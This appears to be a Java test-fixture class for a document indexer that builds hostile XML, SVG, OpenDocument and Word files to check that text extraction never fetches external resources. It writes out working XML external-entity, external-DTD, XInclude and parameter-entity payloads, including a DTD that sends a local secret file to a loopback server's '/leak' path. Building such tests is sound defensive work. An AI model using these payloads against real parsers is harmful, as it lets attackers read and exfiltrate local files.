package org.dossier.indexer.internal.extract;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Locale;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;

/**
 * XML, SVG, OpenDocument and OOXML files that try to make their parser fetch something: an external entity, an
 * external DTD, a parameter entity or an XInclude, each aimed at a loopback server and, where the attack allows, at
 * a local file holding a secret. Every file also carries {@link #VISIBLE} as ordinary text, so a parser that reads
 * it without fetching has something to extract.
 *
 * @param server the loopback server's base address, {@code http://127.0.0.1:port}
 * @param secret a local file outside the folder of the hostile files
 */
record HostileXmlFiles(String server, URI secret) {

    static final String VISIBLE = "visible harbour text";
    static final String XINCLUDE_NAMESPACE = "xmlns:xi=\"http://www.w3.org/2001/XInclude\"";

    /**
     * What a hostile document declares before its root element ({@code {root}} is the root's name), writes as text
     * ({@code inline}) and as an element of its own. {@code {server}} and {@code {secret}} are filled in when a file
     * is written.
     */
    enum Attack {
        EXTERNAL_ENTITY("""
                <!DOCTYPE {root} [
                  <!ENTITY remote SYSTEM "{server}/entity">
                  <!ENTITY secret SYSTEM "{secret}">
                ]>""", "&remote; &secret;", ""),
        EXTERNAL_DTD("<!DOCTYPE {root} SYSTEM \"{server}/dtd\">", "", ""),
        /** The out-of-band exfiltration: the fetched DTD ({@link #PARAMETER_DTD}) sends the secret to the server. */
        PARAMETER_ENTITY("""
                <!DOCTYPE {root} [
                  <!ENTITY % secret SYSTEM "{secret}">
                  <!ENTITY % remote SYSTEM "{server}/parameter">
                  %remote;
                ]>""", "", ""),
        XINCLUDE("", "", """
                <xi:include href="{server}/xinclude" parse="text"/>
                <xi:include href="{secret}" parse="text"/>""");

        private final String doctype;
        private final String inline;
        private final String element;

        Attack(String doctype, String inline, String element) {
            this.doctype = doctype;
            this.inline = inline;
            this.element = element;
        }

        private String doctype(String root) {
            return doctype.replace("{root}", root);
        }
    }

    /** The formats, each with the zip entry that carries the attack ({@code ""}: the file is itself the XML). */
    enum Format {
        XML("xml", ""),
        SVG("svg", ""),
        ODT("odt", "content.xml"),
        DOCX("docx", "word/document.xml"),
        /** The DOCTYPE in the package's first part, which POI reads before any content. */
        DOCX_CONTENT_TYPES("docx", "[Content_Types].xml");

        private final String extension;
        private final String carrier;

        Format(String extension, String carrier) {
            this.extension = extension;
            this.carrier = carrier;
        }
    }

    /** What the server answers at {@code /parameter}: a DTD that sends the secret back in a request path. */
    static final String PARAMETER_DTD = """
            <!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM '{server}/leak?%secret;'>">
            %wrap;
            %send;""";

    String parameterDtd() {
        return filled(PARAMETER_DTD);
    }

    Path write(Path folder, Format format, Attack attack) throws IOException {
        Path file = folder.resolve((format + "-" + attack).toLowerCase(Locale.ROOT) + "." + format.extension);
        return switch (format) {
            case XML -> xml(file, attack);
            case SVG -> svg(file, attack);
            case ODT -> odt(file, attack);
            case DOCX -> docx(file, attack, false);
            case DOCX_CONTENT_TYPES -> docx(file, attack, true);
        };
    }

    /** The XML in a written file that carries its attack. */
    static byte[] carrier(Path file, Format format) throws IOException {
        if (format.carrier.isEmpty()) {
            return Files.readAllBytes(file);
        }
        try (ZipFile zip = new ZipFile(file.toFile());
             InputStream in = zip.getInputStream(zip.getEntry(format.carrier))) {
            return in.readAllBytes();
        }
    }

    /** Also a stylesheet processing instruction pointing at the server. */
    private Path xml(Path file, Attack attack) throws IOException {
        return Files.writeString(file, filled("""
                <?xml version="1.0" encoding="UTF-8"?>
                <?xml-stylesheet type="text/xsl" href="{server}/stylesheet.xsl"?>
                %s
                <report %s>
                  <p>%s</p>
                  <p>%s</p>
                  %s
                </report>""".formatted(attack.doctype("report"), XINCLUDE_NAMESPACE, VISIBLE, attack.inline,
                attack.element)));
    }

    /** Also an image and a link to the server, which an SVG renderer would fetch and a text extractor must not. */
    private Path svg(Path file, Attack attack) throws IOException {
        return Files.writeString(file, filled("""
                <?xml version="1.0" encoding="UTF-8"?>
                %s
                <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" %s
                     width="200" height="100">
                  <text x="10" y="20">%s</text>
                  <text x="10" y="40">%s</text>
                  <image href="{server}/img.png" width="10" height="10"/>
                  <image xlink:href="{server}/xlink-img.png" width="10" height="10"/>
                  <use xlink:href="{server}/shapes.svg#mark"/>
                  <a xlink:href="{server}/link"><text x="10" y="60">a link</text></a>
                  %s
                </svg>""".formatted(attack.doctype("svg"), XINCLUDE_NAMESPACE, VISIBLE, attack.inline,
                attack.element)));
    }

    /** An OpenDocument text: {@code mimetype} stored first, a manifest, and the attack in {@code content.xml}. */
    private Path odt(Path file, Attack attack) throws IOException {
        Map<String, String> entries = new LinkedHashMap<>();
        entries.put("mimetype", "application/vnd.oasis.opendocument.text");
        entries.put("META-INF/manifest.xml", """
                <?xml version="1.0" encoding="UTF-8"?>
                <manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" \
                manifest:version="1.2">
                 <manifest:file-entry manifest:full-path="/" \
                manifest:media-type="application/vnd.oasis.opendocument.text"/>
                 <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
                </manifest:manifest>""");
        entries.put("content.xml", """
                <?xml version="1.0" encoding="UTF-8"?>
                %s
                <office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
                    xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" %s office:version="1.2">
                 <office:body><office:text>
                  <text:p>%s</text:p>
                  <text:p>%s</text:p>
                  %s
                 </office:text></office:body>
                </office:document-content>""".formatted(attack.doctype("office:document-content"),
                XINCLUDE_NAMESPACE, VISIBLE, attack.inline, attack.element));
        return zip(file, entries);
    }

    /**
     * A minimal Word document, with an external hyperlink and an externally linked image beside the attack.
     *
     * @param inContentTypes the DOCTYPE goes in {@code [Content_Types].xml} instead of {@code word/document.xml}
     */
    private Path docx(Path file, Attack attack, boolean inContentTypes) throws IOException {
        Map<String, String> entries = new LinkedHashMap<>();
        entries.put("[Content_Types].xml", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                %s
                <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types" %s>
                 <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
                 <Default Extension="xml" ContentType="application/xml"/>
                 <Override PartName="/word/document.xml" \
                ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
                 %s
                </Types>""".formatted(inContentTypes ? attack.doctype("Types") : "", XINCLUDE_NAMESPACE,
                inContentTypes ? "<Note>" + attack.inline + "</Note>" + attack.element : ""));
        entries.put("_rels/.rels", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
                 <Relationship Id="rId1" Target="word/document.xml" \
                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>
                </Relationships>""");
        entries.put("word/_rels/document.xml.rels", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
                 <Relationship Id="rIdLink" TargetMode="External" Target="{server}/hyperlink" \
                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>
                 <Relationship Id="rIdImage" TargetMode="External" Target="{server}/linked-image.png" \
                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>
                </Relationships>""");
        entries.put("word/document.xml", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                %s
                <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"
                    xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" %s>
                 <w:body>
                  <w:p><w:r><w:t>%s</w:t></w:r></w:p>
                  <w:p><w:r><w:t>%s</w:t></w:r></w:p>
                  <w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>a link</w:t></w:r></w:hyperlink></w:p>
                  %s
                 </w:body>
                </w:document>""".formatted(inContentTypes ? "" : attack.doctype("w:document"), XINCLUDE_NAMESPACE,
                VISIBLE, inContentTypes ? "" : attack.inline, inContentTypes ? "" : attack.element));
        return zip(file, entries);
    }

    private String filled(String template) {
        return template.replace("{server}", server).replace("{secret}", secret.toString());
    }

    private Path zip(Path file, Map<String, String> entries) throws IOException {
        try (OutputStream out = Files.newOutputStream(file); ZipOutputStream zip = new ZipOutputStream(out)) {
            for (var entry : entries.entrySet()) {
                byte[] bytes = filled(entry.getValue()).getBytes(StandardCharsets.UTF_8);
                ZipEntry zipEntry = new ZipEntry(entry.getKey());
                if (entry.getKey().equals("mimetype")) { // OpenDocument: first, and stored uncompressed
                    CRC32 crc = new CRC32();
                    crc.update(bytes);
                    zipEntry.setMethod(ZipEntry.STORED);
                    zipEntry.setSize(bytes.length);
                    zipEntry.setCrc(crc.getValue());
                }
                zip.putNextEntry(zipEntry);
                zip.write(bytes);
                zip.closeEntry();
            }
        }
        return file;
    }
}
